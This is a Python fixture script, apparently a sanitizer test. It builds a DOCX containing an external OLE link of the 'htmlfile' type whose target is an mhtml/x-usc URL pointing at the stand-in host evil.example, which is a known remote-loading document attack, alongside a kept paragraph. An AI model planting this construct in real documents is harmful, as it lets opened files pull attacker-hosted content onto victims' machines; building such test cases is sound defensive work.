# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit, png
from recipes_ooxml import *

emit(docx('<w:p><w:r><w:object><v:shape id="s" style="width:10pt;height:10pt"><v:imagedata r:id="rId2"/></v:shape>'
          '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="s" r:id="rId1" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>'
          '</w:object></w:r></w:p>' + paragraph('KEPT'),
          [('rId1', 'oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html', 'External'), ('rId2', 'image', 'media/image1.png')],
          namespaces=VML, parts={'word/media/image1.png': png(1)}))
